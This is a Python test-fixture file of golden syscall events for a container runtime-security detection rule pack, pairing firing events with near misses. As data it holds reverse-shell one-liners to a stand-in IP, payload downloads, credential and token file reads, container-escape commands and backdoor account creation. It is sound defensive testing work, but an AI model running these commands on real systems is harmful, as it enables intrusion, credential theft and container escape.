"""Golden syscall events for Stockade's rule pack (src/stockade/rules/builtin/stockade.yaml).

Each :class:`PackCase` names one rule of the pack and holds variants that must fire it and near
misses that must not (the same behaviour on the host, a harmless file, an allowed parent, ...).
A variant is one event, or for a sequence rule several events with increasing ``evt.time``; the
rule must fire on the last event of a firing variant and on no event of a near miss.

Events are flat dicts keyed by Falco field names, exit events (``evt.dir`` ``<``), filled the way
the sensor fills them. Fields the engine derives (fd.directory, fd.filename, fd.sip, fd.sport,
evt.is_open_read/write from the open flags) are left out, as a recording would leave them.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from typing import Any

BASE_TIME_NS = 1_732_500_000_000_000_000
_clock = itertools.count(1)

CID = "5be1c0ffee42"
OTHER_CID = "77aa0d15c0de"
#: a proc.tty value of a pseudo-terminal (major 136, minor 0)
PTS_TTY = 34816

#: ancestors (parent first) of a process started by a shell that `kubectl exec` opened
UNDER_SHELL = ["bash", "runc", "containerd-shim", "systemd"]
#: ancestors of the shell `kubectl exec` / `docker exec` starts
UNDER_RUNTIME = ["runc", "containerd-shim", "systemd"]
#: ancestors of a process on the host, started from an SSH login shell
HOST_SHELL = ["bash", "sshd", "sshd", "systemd"]


def in_container(
    repo: str = "docker.io/library/nginx",
    tag: str = "1.27",
    *,
    cid: str = CID,
    ns: str | None = "shop",
    pod: str | None = "web-6d9c7b8f5-k2x7p",
    privileged: bool = False,
) -> dict[str, Any]:
    d: dict[str, Any] = {
        "container.id": cid,
        "container.name": f"k8s_{pod or 'app'}",
        "container.image.repository": repo,
        "container.image.tag": tag,
        "container.privileged": privileged,
    }
    if ns is not None:
        d["k8s.ns.name"] = ns
    if pod is not None:
        d["k8s.pod.name"] = pod
    return d


def on_host() -> dict[str, Any]:
    return {"container.id": "host", "container.name": "host"}


def event(
    evt_type: str,
    cmdline: str,
    fields: dict[str, Any] | None = None,
    *,
    where: dict[str, Any] | None = None,
    ancestors: list[str] | None = None,
    exepath: str | None = None,
    tty: int = 0,
    user: tuple[str, int] = ("root", 0),
    vpid: int = 57,
    at: float | None = None,
) -> dict[str, Any]:
    """An exit event of `evt_type` by the process running `cmdline` (argv[0] first).

    `where` is the container (or host) context, in a container by default; `ancestors` lists
    proc.aname parent first; `at` is the event time in seconds after BASE_TIME_NS (for sequences)."""
    argv0, _, args = cmdline.partition(" ")
    name = argv0.rsplit("/", 1)[-1]
    anc = UNDER_SHELL if ancestors is None else ancestors
    n = next(_clock)
    t = BASE_TIME_NS + (int(at * 1e9) if at is not None else n * 1000)
    d: dict[str, Any] = {
        "evt.num": n,
        "evt.time": t,
        "evt.type": evt_type,
        "evt.dir": "<",
        "evt.hostname": "node-1",
        "proc.pid": 24_000 + n,
        "proc.vpid": vpid,
        "proc.name": name[:15],
        "proc.exe": argv0,
        "proc.exepath": exepath or (argv0 if argv0.startswith("/") else f"/usr/bin/{name}"),
        "proc.cmdline": f"{name[:15]} {args}".rstrip(),
        "proc.args": args,
        "proc.tty": tty,
        "proc.cwd": "/",
        "user.name": user[0],
        "user.uid": user[1],
    }
    if anc:
        d["proc.pname"] = anc[0]
        d["proc.aname"] = list(anc)
    d.update(in_container() if where is None else where)
    if fields:
        d.update(fields)
    return d


def exec_(cmdline: str, fields: dict[str, Any] | None = None, **kw: Any) -> dict[str, Any]:
    """A successful execve of `cmdline`."""
    return event("execve", cmdline, {"evt.rawres": 0, "evt.res": "SUCCESS", **(fields or {})}, **kw)


def open_(path: str, cmdline: str, flags: str = "O_RDONLY|O_CLOEXEC", **kw: Any) -> dict[str, Any]:
    """A successful openat of `path` with `flags`."""
    return event(
        "openat",
        cmdline,
        {
            "fd.name": path,
            "fd.num": 3,
            "fd.typechar": "f",
            "fd.type": "file",
            "evt.rawres": 3,
            "evt.res": "SUCCESS",
            "evt.arg.flags": flags,
            "evt.arg.name": path,
        },
        **kw,
    )


WRITE = "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"
APPEND = "O_WRONLY|O_CREAT|O_APPEND"


def connect_(server: str, cmdline: str, client: str = "172.17.0.5:43210", **kw: Any) -> dict[str, Any]:
    """A successful TCP connect from `client` to `server` ("ip:port")."""
    return event(
        "connect",
        cmdline,
        {
            "fd.name": f"{client}->{server}",
            "fd.num": 4,
            "fd.typechar": "4",
            "fd.type": "ipv4",
            "fd.l4proto": "tcp",
            "evt.rawres": 0,
            "evt.res": "SUCCESS",
        },
        **kw,
    )


def unix_connect_(path: str, cmdline: str, **kw: Any) -> dict[str, Any]:
    """A connect to the unix socket `path` (fd.name as libsinsp writes it)."""
    return event(
        "connect",
        cmdline,
        {
            "fd.name": f"ffff9a2b3c4d5e00->ffff9a2b3c4d6f00 {path}",
            "fd.num": 4,
            "fd.typechar": "u",
            "fd.type": "unix",
            "evt.rawres": 0,
            "evt.res": "SUCCESS",
        },
        **kw,
    )


def call(evt_type: str, cmdline: str, args: dict[str, Any], **kw: Any) -> dict[str, Any]:
    """A successful syscall `evt_type` with its event arguments."""
    return event(evt_type, cmdline, {"evt.rawres": 0, "evt.res": "SUCCESS", **args}, **kw)


# ---------------------------------------------------------------------------------------------
# Cases
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Variant:
    why: str
    events: tuple[dict[str, Any], ...]


@dataclass(frozen=True)
class PackCase:
    rule: str
    fires: list[Variant]
    near_misses: list[Variant]


def v(why: str, *events: dict[str, Any]) -> Variant:
    return Variant(why, events)


HOST = on_host()
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
BASH_TTY: dict[str, Any] = {"tty": PTS_TTY, "ancestors": UNDER_RUNTIME}
REV_IP = "203.0.113.7"


CASES: list[PackCase] = [
    # -- credential access ------------------------------------------------------------------------
    PackCase(
        "Password Database Read in Container",
        fires=[
            v("cat /etc/shadow", open_("/etc/shadow", "cat /etc/shadow")),
            v("a script reads /etc/gshadow", open_("/etc/gshadow", "python3 dump.py")),
        ],
        near_misses=[
            v("on the host", open_("/etc/shadow", "cat /etc/shadow", where=HOST, ancestors=HOST_SHELL)),
            v("a harmless file", open_("/etc/passwd", "cat /etc/passwd")),
            v("the PAM helper", open_("/etc/shadow", "unix_chkpwd root nullok", ancestors=["login"])),
            v(
                "a failed open",
                open_("/etc/shadow", "cat /etc/shadow")
                | {"evt.rawres": -13, "evt.res": "EACCES", "fd.num": -1},
            ),
        ],
    ),
    PackCase(
        "SSH Private Key Read in Container",
        fires=[
            v("cat a root key", open_("/root/.ssh/id_rsa", "cat /root/.ssh/id_rsa")),
            v("tar of a user key", open_("/home/app/.ssh/id_ed25519", "tar czf /tmp/k.tgz /home/app/.ssh")),
            v("a host key", open_("/etc/ssh/ssh_host_ed25519_key", "python3 -c print(open(k).read())")),
        ],
        near_misses=[
            v("on the host", open_("/root/.ssh/id_rsa", "cat /root/.ssh/id_rsa", where=HOST)),
            v("a public key", open_("/root/.ssh/id_rsa.pub", "cat /root/.ssh/id_rsa.pub")),
            v("ssh itself", open_("/root/.ssh/id_rsa", "ssh git@example.com")),
        ],
    ),
    PackCase(
        "Cloud Credentials Read in Container",
        fires=[
            v("cat AWS credentials", open_("/root/.aws/credentials", "cat /root/.aws/credentials")),
            v(
                "gcloud ADC by a script",
                open_(
                    "/home/app/.config/gcloud/application_default_credentials.json",
                    "python3 /tmp/steal.py",
                ),
            ),
            v("a kubeconfig", open_("/root/.kube/config", "base64 /root/.kube/config")),
        ],
        near_misses=[
            v("the AWS CLI", open_("/root/.aws/credentials", "aws s3 ls")),
            v("on the host", open_("/root/.aws/credentials", "cat /root/.aws/credentials", where=HOST)),
            v("a harmless file", open_("/app/config.json", "cat /app/config.json")),
        ],
    ),
    PackCase(
        "Service Account Token Read by Tool in Container",
        fires=[
            v("cat the token", open_(TOKEN, f"cat {TOKEN}")),
            v("the shell reads it ($(<token))", open_(TOKEN, "bash", tty=PTS_TTY, ancestors=UNDER_RUNTIME)),
            v(
                "a projected EKS token",
                open_("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "curl -H @token https://x"),
            ),
        ],
        near_misses=[
            v(
                "the application",
                open_(TOKEN, "manager --leader-elect", ancestors=["containerd-shim", "systemd"]),
            ),
            v(
                "the CA certificate",
                open_("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", "cat ca.crt"),
            ),
            v("on the host", open_(TOKEN, f"cat {TOKEN}", where=HOST)),
        ],
    ),
    # -- container escape -------------------------------------------------------------------------
    PackCase(
        "Cgroup Release Agent Write in Container",
        fires=[
            v(
                "echo into release_agent",
                open_("/tmp/cgrp/release_agent", "sh -c echo /cmd > /tmp/cgrp/release_agent", WRITE),
            ),
            v(
                "notify_on_release",
                open_("/tmp/cgrp/x/notify_on_release", "sh -c echo 1 > notify_on_release", WRITE),
            ),
        ],
        near_misses=[
            v("read only", open_("/sys/fs/cgroup/release_agent", "cat /sys/fs/cgroup/release_agent")),
            v(
                "on the host",
                open_("/sys/fs/cgroup/release_agent", "sh -c echo x > release_agent", WRITE, where=HOST),
            ),
        ],
    ),
    PackCase(
        "Host Root Access via Proc in Container",
        fires=[
            v("open through /proc/1/root", open_("/proc/1/root/etc/shadow", "cat /proc/1/root/etc/shadow")),
            v("chroot into it", exec_("chroot /proc/1/root /bin/sh", tty=PTS_TTY)),
        ],
        near_misses=[
            v("another /proc file", open_("/proc/1/status", "cat /proc/1/status")),
            v("its own root", open_("/proc/self/root/etc/hosts", "cat /proc/self/root/etc/hosts")),
            v("on the host", exec_("chroot /proc/1/root /bin/sh", where=HOST)),
        ],
    ),
    PackCase(
        "Container Runtime Socket Access in Container",
        fires=[
            v("connect to docker.sock", unix_connect_("/var/run/docker.sock", "docker ps")),
            v("containerd socket", unix_connect_("/run/containerd/containerd.sock", "ctr -n k8s.io c ls")),
            v(
                "curl --unix-socket",
                exec_("curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
            ),
        ],
        near_misses=[
            v("another unix socket", unix_connect_("/var/run/nscd/socket", "getent hosts db")),
            v("on the host", unix_connect_("/var/run/docker.sock", "docker ps", where=HOST)),
        ],
    ),
    PackCase(
        "Namespace Tool Run in Container",
        fires=[
            v("nsenter into pid 1", exec_("nsenter -t 1 -m -u -i -n -p -- /bin/sh", tty=PTS_TTY)),
            v("unshare", exec_("unshare -r -m /bin/sh")),
        ],
        near_misses=[
            v("on the host", exec_("nsenter -t 1 -m -- /bin/sh", where=HOST)),
            v("a harmless tool", exec_("setsid /bin/sh -c sleep 1")),
        ],
    ),
    PackCase(
        "Namespace Change Syscall in Container",
        fires=[
            v(
                "unshare(CLONE_NEWUSER) by an exploit",
                call("unshare", "/tmp/exp", {"evt.arg.flags": "CLONE_NEWUSER"}),
            ),
            v("setns", call("setns", "nsenter -t 1 -m", {"evt.arg.nstype": "CLONE_NEWNS"})),
        ],
        near_misses=[
            v("the runtime's init", call("setns", "runc:[2:INIT] init", {"evt.arg.nstype": "CLONE_NEWNET"})),
            v("a browser sandbox", call("unshare", "chrome --headless", {"evt.arg.flags": "CLONE_NEWUSER"})),
            v("on the host", call("unshare", "/tmp/exp", {"evt.arg.flags": "CLONE_NEWUSER"}, where=HOST)),
        ],
    ),
    PackCase(
        "Mount Attempt in Container",
        fires=[
            v("mount the host disk", exec_("mount /dev/sda1 /mnt", where=in_container(privileged=True))),
            v(
                "the mount syscall",
                call(
                    "mount",
                    "mount -t cgroup -o rdma cgroup /tmp/cgrp",
                    {"evt.arg.dev": "cgroup", "evt.arg.dir": "/tmp/cgrp"},
                ),
            ),
        ],
        near_misses=[
            v("listing mounts", exec_("mount")),
            v(
                "the runtime",
                call("mount", "runc:[2:INIT] init", {"evt.arg.dev": "proc", "evt.arg.dir": "/proc"}),
            ),
            v("on the host", exec_("mount /dev/sda1 /mnt", where=HOST)),
        ],
    ),
    PackCase(
        "Kernel Module Loaded from Container",
        fires=[
            v("finit_module", call("finit_module", "insmod /tmp/rk.ko", {"evt.arg.fd": 3})),
            v("insmod", exec_("insmod /tmp/rk.ko")),
            v("modprobe", exec_("modprobe nf_tables")),
        ],
        near_misses=[
            v("lsmod", exec_("lsmod")),
            v("on the host", call("finit_module", "modprobe nf_tables", {"evt.arg.fd": 3}, where=HOST)),
            v("module removal", exec_("modprobe -r nf_tables")),
        ],
    ),
    PackCase(
        "Ptrace Attach in Container",
        fires=[
            v(
                "PTRACE_ATTACH",
                call("ptrace", "gdb -p 1", {"evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": 1}),
            ),
            v("PTRACE_POKETEXT", call("ptrace", "/tmp/inject 1", {"evt.arg.request": "PTRACE_POKETEXT"})),
            v("PTRACE_SEIZE", call("ptrace", "/tmp/inject 1", {"evt.arg.request": "PTRACE_SEIZE"})),
        ],
        near_misses=[
            v("PTRACE_TRACEME", call("ptrace", "/app/server", {"evt.arg.request": "PTRACE_TRACEME"})),
            v("PTRACE_CONT", call("ptrace", "strace -p 9", {"evt.arg.request": "PTRACE_CONT"})),
            v("on the host", call("ptrace", "gdb -p 1", {"evt.arg.request": "PTRACE_ATTACH"}, where=HOST)),
        ],
    ),
    # -- defense evasion --------------------------------------------------------------------------
    PackCase(
        "Fileless Execution in Container",
        fires=[
            v(
                "exe from memfd",
                exec_("kworker", {"proc.is_exe_from_memfd": True}, exepath="/memfd:x (deleted)"),
            ),
            v("fexecve through /proc/self/fd", exec_("payload -d", exepath="/proc/self/fd/3")),
        ],
        near_misses=[
            v(
                "runc's memfd clone",
                exec_(
                    "runc init", {"proc.is_exe_from_memfd": True}, exepath="memfd:runc_cloned:/proc/self/exe"
                ),
            ),
            v("an ordinary binary", exec_("ls -la", {"proc.is_exe_from_memfd": False})),
            v(
                "on the host",
                exec_("kworker", {"proc.is_exe_from_memfd": True}, exepath="/memfd:x (deleted)", where=HOST),
            ),
        ],
    ),
    PackCase(
        "Memfd Created by Shell or Interpreter in Container",
        fires=[
            v("python", call("memfd_create", "python3 -c import os", {"evt.arg.name": ""})),
            v("perl", call("memfd_create", "perl -e syscall(319,$n,1)", {"evt.arg.name": "x"})),
        ],
        near_misses=[
            v("a JVM", call("memfd_create", "java -jar app.jar", {"evt.arg.name": "jvm"})),
            v("on the host", call("memfd_create", "python3 -c import os", {"evt.arg.name": ""}, where=HOST)),
        ],
    ),
    PackCase(
        "Execution from Shared Memory in Container",
        fires=[
            v("binary in /dev/shm", exec_("/dev/shm/.x/kworker -B")),
            v("/run/shm", exec_("/run/shm/a", exepath="/run/shm/a")),
        ],
        near_misses=[
            v("cwd /dev/shm, binary elsewhere", exec_("ls", {"proc.cwd": "/dev/shm"})),
            v("on the host", exec_("/dev/shm/.x/kworker -B", where=HOST)),
        ],
    ),
    # -- privilege escalation ---------------------------------------------------------------------
    PackCase(
        "Setuid Bit Set in Container",
        fires=[
            v(
                "fchmodat with S_ISUID",
                call(
                    "fchmodat",
                    "chmod 4755 /tmp/sh",
                    {
                        "evt.arg.filename": "/tmp/sh",
                        "evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
                    },
                ),
            ),
            v(
                "chmod with S_ISGID",
                call(
                    "chmod", "chmod g+s /srv", {"evt.arg.filename": "/srv", "evt.arg.mode": "S_IXUSR|S_ISGID"}
                ),
            ),
        ],
        near_misses=[
            v(
                "mode without setuid",
                call(
                    "fchmodat",
                    "chmod 755 /tmp/x",
                    {"evt.arg.filename": "/tmp/x", "evt.arg.mode": "S_IXUSR|S_IRUSR"},
                ),
            ),
            # the exec is "Setuid Command Run in Container": its alert has no file mode to show
            v("the chmod command's exec", exec_("chmod u+s /bin/bash")),
            v(
                "on the host",
                call(
                    "fchmodat",
                    "chmod 4755 /tmp/sh",
                    {"evt.arg.filename": "/tmp/sh", "evt.arg.mode": "S_IXUSR|S_ISUID"},
                    where=HOST,
                ),
            ),
        ],
    ),
    PackCase(
        "Setuid Command Run in Container",
        fires=[
            v("chmod u+s", exec_("chmod u+s /bin/bash")),
            v("chmod 4755", exec_("chmod 4755 /tmp/x")),
            v("chmod g+s", exec_("chmod g+s /srv")),
        ],
        near_misses=[
            v("chmod 755", exec_("chmod 755 /tmp/x")),
            v("chmod 0755", exec_("chmod 0755 /tmp/x")),
            v("the sticky bit", exec_("chmod 1777 /tmp/shared")),
            v("the chmod syscall", call("fchmodat", "chmod 4755 /tmp/sh", {"evt.arg.mode": "S_ISUID"})),
            v("on the host", exec_("chmod u+s /bin/bash", where=HOST)),
        ],
    ),
    PackCase(
        "File Capabilities Set in Container",
        fires=[
            v("setcap", exec_("setcap cap_setuid+ep /usr/bin/python3")),
            v("setfattr", exec_("setfattr -n security.capability -v 0sAQAAAg== /tmp/x")),
        ],
        near_misses=[
            v("getcap", exec_("getcap -r /")),
            v("on the host", exec_("setcap cap_net_raw+ep /usr/bin/ping", where=HOST)),
        ],
    ),
    # -- persistence ------------------------------------------------------------------------------
    PackCase(
        "Cron Job Modified in Container",
        fires=[
            v(
                "a file in /etc/cron.d",
                open_("/etc/cron.d/backdoor", "sh -c echo x > /etc/cron.d/backdoor", WRITE),
            ),
            v("crontab installs a table", exec_("crontab /tmp/c")),
            v("a user crontab", open_("/var/spool/cron/crontabs/root", "crontab -e", WRITE)),
        ],
        near_misses=[
            v("crontab -l", exec_("crontab -l")),
            v("read /etc/crontab", open_("/etc/crontab", "cat /etc/crontab")),
            v(
                "the package manager",
                open_("/etc/cron.daily/apt-compat", "dpkg -i apt.deb", WRITE, ancestors=["apt-get", "bash"]),
            ),
            v("on the host", open_("/etc/cron.d/backdoor", "sh -c echo x", WRITE, where=HOST)),
        ],
    ),
    PackCase(
        "Systemd Unit Modified in Container",
        fires=[
            v("a system unit", open_("/etc/systemd/system/evil.service", "sh -c cat > evil.service", WRITE)),
            v("a user unit", open_("/root/.config/systemd/user/x.service", "tee x.service", WRITE)),
            v("rc.local", open_("/etc/rc.local", "sh -c echo x >> /etc/rc.local", APPEND)),
            v("systemctl enable", exec_("systemctl enable evil.service")),
        ],
        near_misses=[
            v("systemctl status", exec_("systemctl status nginx")),
            v("read a unit", open_("/lib/systemd/system/nginx.service", "cat nginx.service")),
            v(
                "the package manager",
                open_(
                    "/lib/systemd/system/nginx.service", "dpkg --unpack x.deb", WRITE, ancestors=["apt-get"]
                ),
            ),
            v(
                "on the host",
                open_("/etc/systemd/system/evil.service", "tee evil.service", WRITE, where=HOST),
            ),
        ],
    ),
    PackCase(
        "User Account Created in Container",
        fires=[
            v("useradd", exec_("useradd -o -u 0 -g 0 backdoor")),
            v("busybox adduser", exec_("adduser -D hacker")),
        ],
        near_misses=[
            v("on the host", exec_("useradd alice", where=HOST)),
            v(
                "a package's maintainer script",
                exec_("adduser --system nginx", ancestors=["sh", "dpkg", "apt-get", "bash"]),
            ),
            v("id", exec_("id backdoor")),
        ],
    ),
    PackCase(
        "Account Database Modified in Container",
        fires=[
            v(
                "append to /etc/passwd",
                open_("/etc/passwd", "sh -c echo x:0:0::/:/bin/sh >> /etc/passwd", APPEND),
            ),
            v("a sudoers drop-in", open_("/etc/sudoers.d/90-x", "python3 p.py", WRITE)),
        ],
        near_misses=[
            v("useradd", open_("/etc/passwd", "useradd bob", APPEND)),
            v("read only", open_("/etc/passwd", "cat /etc/passwd")),
            v("on the host", open_("/etc/passwd", "sh -c echo x >> /etc/passwd", APPEND, where=HOST)),
        ],
    ),
    # -- impact, command and control, discovery --------------------------------------------------
    PackCase(
        "Reverse Shell Command in Container",
        fires=[
            v("bash /dev/tcp", exec_(f"bash -c bash -i >& /dev/tcp/{REV_IP}/4444 0>&1")),
            v("nc -e", exec_(f"nc {REV_IP} 4444 -e /bin/sh")),
            v("socat exec", exec_(f"socat exec:'bash -li',pty,stderr tcp:{REV_IP}:4444")),
            v(
                "python pty",
                exec_(
                    "python3 -c import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));"
                    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
                ),
            ),
            v(
                "mkfifo + nc",
                exec_(f"sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {REV_IP} 4444 >/tmp/f"),
            ),
            v(
                "php fsockopen",
                exec_(f"php -r $s=fsockopen('{REV_IP}',4444);exec('/bin/sh -i <&3 >&3 2>&3');"),
            ),
        ],
        near_misses=[
            v("on the host", exec_(f"bash -c bash -i >& /dev/tcp/{REV_IP}/4444 0>&1", where=HOST)),
            v("nc as a client", exec_("nc db 5432")),
            v("python using a socket", exec_("python3 -c import socket; print(socket.gethostname())")),
        ],
    ),
    PackCase(
        "Shell Network Connection from Container",
        fires=[v("bash connects out", connect_(f"{REV_IP}:4444", "bash -i"))],
        near_misses=[
            v("curl connects out", connect_(f"{REV_IP}:443", "curl https://x")),
            v("bash to loopback", connect_("127.0.0.1:8080", "bash", client="127.0.0.1:50000")),
            v("on the host", connect_(f"{REV_IP}:4444", "bash -i", where=HOST)),
        ],
    ),
    PackCase(
        "Network Scanner Run in Container",
        fires=[
            v("nmap", exec_("nmap -sS -p- 10.0.0.0/24")),
            v("masscan", exec_("masscan 10.0.0.0/8 -p80,443 --rate 10000")),
            v("nc -z", exec_("nc -zv 10.0.0.5 1-1024")),
        ],
        near_misses=[
            v("on the host", exec_("nmap -sS 10.0.0.0/24", where=HOST)),
            v("nc as a client", exec_("nc 10.0.0.5 80")),
        ],
    ),
    # -- execution and drift ----------------------------------------------------------------------
    PackCase(
        "Package Manager Run in Container",
        fires=[
            v("apt-get install", exec_("apt-get install -y nmap")),
            v("apk add", exec_("apk add --no-cache socat")),
            v("pip install", exec_("pip install pycryptodome")),
        ],
        near_misses=[
            v("a dpkg query", exec_("dpkg -l")),
            v("pip freeze", exec_("pip freeze")),
            v("npm start", exec_("npm start")),
            v(
                "dpkg under apt-get",
                exec_("dpkg --status-fd 43 --configure nmap", ancestors=["apt-get", "bash"]),
            ),
            v("on the host", exec_("apt-get install -y nmap", where=HOST)),
        ],
    ),
    PackCase(
        "Binary Not in Image Executed in Container",
        fires=[v("a dropped binary", exec_("/tmp/x", {"proc.is_exe_upper_layer": True}))],
        near_misses=[
            v("a binary of the image", exec_("ls", {"proc.is_exe_upper_layer": False})),
            v("on the host", exec_("/tmp/x", {"proc.is_exe_upper_layer": True}, where=HOST)),
        ],
    ),
    PackCase(
        "Shell Spawned by Server Process in Container",
        fires=[
            v("nginx starts sh", exec_("sh -c id", ancestors=["nginx", "nginx", "containerd-shim"])),
            v("java starts bash", exec_("bash -c curl x|sh", ancestors=["java", "containerd-shim"])),
        ],
        near_misses=[
            v(
                "the entrypoint's shell",
                exec_("sh -c nginx -t", ancestors=["docker-entrypoi", "containerd-shim"]),
            ),
            v("on the host", exec_("sh -c id", ancestors=["nginx", "systemd"], where=HOST)),
        ],
    ),
    PackCase(
        "Shell Spawned in Container",
        fires=[
            v("kubectl exec -it bash", exec_("bash", **BASH_TTY)),
            v("kubectl exec -i sh without a terminal", exec_("sh", ancestors=["runc:[1:CHILD]", "runc"])),
            v("podman exec -i bash -i", exec_("bash -i", ancestors=["runc:[2:INIT]", "runc"])),
        ],
        near_misses=[
            v(
                "the entrypoint (pid 1)",
                exec_("sh /docker-entrypoint.sh nginx", vpid=1, ancestors=["containerd-shim"]),
            ),
            v("a script's sub-shell", exec_("sh -c date", ancestors=["python3", "containerd-shim"])),
            v(
                "a health check the runtime runs",
                exec_("sh -c wget -qO- http://127.0.0.1:8080/healthz", ancestors=["runc:[1:CHILD]", "runc"]),
            ),
            v("the entrypoint under tini", exec_("sh /entrypoint.sh", ancestors=["tini", "containerd-shim"])),
            v("on the host", exec_("bash", tty=PTS_TTY, ancestors=HOST_SHELL, where=HOST)),
        ],
    ),
    PackCase(
        "Interpreter Started with Terminal in Container",
        fires=[
            v("python3 with a terminal", exec_("python3", tty=PTS_TTY)),
            v("node with a terminal", exec_("node", tty=PTS_TTY)),
        ],
        near_misses=[
            v("the application, no terminal", exec_("python3 app.py", ancestors=["containerd-shim"])),
            v("on the host", exec_("python3", tty=PTS_TTY, ancestors=HOST_SHELL, where=HOST)),
        ],
    ),
    # -- generic file writes ----------------------------------------------------------------------
    PackCase(
        "Write Below Binary Directory in Container",
        fires=[
            v("cp over ps", open_("/usr/bin/ps", "cp /tmp/ps /usr/bin/ps", WRITE)),
            v("curl -o", open_("/usr/local/bin/kubectl", "curl -o /usr/local/bin/kubectl https://x", WRITE)),
            v(
                "mv into /usr/local/bin",
                call(
                    "renameat2",
                    "mv /tmp/k /usr/local/bin/k",
                    {"evt.arg.oldpath": "/tmp/k", "evt.arg.newpath": "/usr/local/bin/k"},
                ),
            ),
        ],
        near_misses=[
            v(
                "dpkg installs",
                open_("/usr/bin/curl", "dpkg --unpack curl.deb", WRITE, ancestors=["apt-get"]),
            ),
            v("not a binary directory", open_("/usr/share/doc/x", "cp x /usr/share/doc/x", WRITE)),
            v("on the host", open_("/usr/bin/ps", "cp /tmp/ps /usr/bin/ps", WRITE, where=HOST)),
        ],
    ),
    PackCase(
        "Write Below Etc in Container",
        fires=[
            v(
                "edit nginx.conf",
                open_("/etc/nginx/nginx.conf", "vi /etc/nginx/nginx.conf", WRITE, tty=PTS_TTY),
            ),
            v(
                "motd",
                open_("/etc/motd", "sh -c echo owned > /etc/motd", WRITE),
            ),
            v(
                "a shell below the app the entrypoint started (only its direct children are startup)",
                open_(
                    "/etc/motd",
                    "sh -c echo owned > /etc/motd",
                    WRITE,
                    ancestors=["node", "docker-entrypoi", "containerd-shim"],
                ),
            ),
        ],
        near_misses=[
            v("resolv.conf", open_("/etc/resolv.conf", "sh -c echo nameserver > /etc/resolv.conf", WRITE)),
            v(
                "the image's entrypoint",
                open_(
                    "/etc/nginx/conf.d/default.conf",
                    "sh -c envsubst",
                    WRITE,
                    ancestors=["docker-entrypoi", "containerd-shim"],
                ),
            ),
            v("ldconfig", open_("/etc/ld.so.cache~", "ldconfig", WRITE)),
            v("read only", open_("/etc/nginx/nginx.conf", "cat /etc/nginx/nginx.conf")),
            v("on the host", open_("/etc/nginx/nginx.conf", "vi nginx.conf", WRITE, where=HOST)),
        ],
    ),
    # -- sequences --------------------------------------------------------------------------------
    PackCase(
        "Shell, Download, Connect in Container",
        fires=[
            v(
                "kubectl exec, curl, connect",
                exec_("bash", at=0, **BASH_TTY),
                exec_(f"curl -sO http://{REV_IP}/x.sh", at=5),
                connect_(f"{REV_IP}:80", f"curl -sO http://{REV_IP}/x.sh", at=6),
            ),
            v(
                "sh, wget, then the payload connects",
                exec_("sh -c cd /tmp", at=0, ancestors=["nginx", "containerd-shim"]),
                exec_(f"wget http://{REV_IP}/k -O /tmp/k", at=2),
                exec_("ls /tmp", at=3),
                connect_("198.51.100.23:3333", "/tmp/k", at=30),
            ),
        ],
        near_misses=[
            v(
                "a health check the runtime runs, then the container's own client traffic",
                exec_("sh -c wget -qO- http://127.0.0.1:8080/", at=0, ancestors=["runc:[1:CHILD]", "runc"]),
                exec_(f"wget -q -O /dev/null http://{REV_IP}:8080/", at=2, ancestors=["sh", "conmon"]),
                connect_(f"{REV_IP}:8080", "wget", at=3),
            ),
            v(
                "download before the shell",
                exec_(f"curl -sO http://{REV_IP}/x.sh", at=0),
                connect_(f"{REV_IP}:80", "curl", at=1),
                exec_("bash", at=2, **BASH_TTY),
            ),
            v(
                "too slow (over 60s)",
                exec_("bash", at=0, **BASH_TTY),
                exec_(f"curl -sO http://{REV_IP}/x.sh", at=30),
                connect_(f"{REV_IP}:80", "curl", at=90),
            ),
            v(
                "loopback connection",
                exec_("bash", at=0, **BASH_TTY),
                exec_("curl http://127.0.0.1:8080/health", at=1),
                connect_("127.0.0.1:8080", "curl", client="127.0.0.1:50000", at=2),
            ),
            v(
                "the entrypoint shell",
                exec_("sh /docker-entrypoint.sh", at=0, vpid=1, ancestors=["containerd-shim"]),
                exec_(f"curl -sO http://{REV_IP}/x.sh", at=1),
                connect_(f"{REV_IP}:80", "curl", at=2),
            ),
            v(
                "on the host",
                exec_("bash", at=0, where=HOST, ancestors=HOST_SHELL),
                exec_(f"curl -sO http://{REV_IP}/x.sh", at=1, where=HOST),
                connect_(f"{REV_IP}:80", "curl", at=2, where=HOST),
            ),
        ],
    ),
]
